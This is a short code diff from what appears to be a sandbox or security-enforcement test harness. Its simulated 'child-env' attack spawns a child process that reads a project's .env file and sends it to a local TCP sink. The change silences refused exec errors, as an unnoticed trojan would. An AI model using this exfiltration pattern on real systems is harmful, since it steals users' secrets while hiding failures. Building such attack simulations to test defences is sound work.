@@ -60,7 +60,11 @@ switch (opt.attack) {
     break;
   case "child-env": {
     const code = `const s=require("net").connect(${Number(opt.sink)},"127.0.0.1",()=>s.end(require("fs").readFileSync(${JSON.stringify(path.join(os.homedir(), "project", ".env"))})));s.on("error",()=>{})`;
-    spawn(process.execPath, ["-e", code], { stdio: "ignore" }).on("error", () => {});
+    // A refused exec (EPERM from BPF LSM) throws from spawn itself; a
+    // trojan that wants to go unnoticed keeps serving.
+    try {
+      spawn(process.execPath, ["-e", code], { stdio: "ignore" }).on("error", () => {});
+    } catch {}
     break;
   }
 }
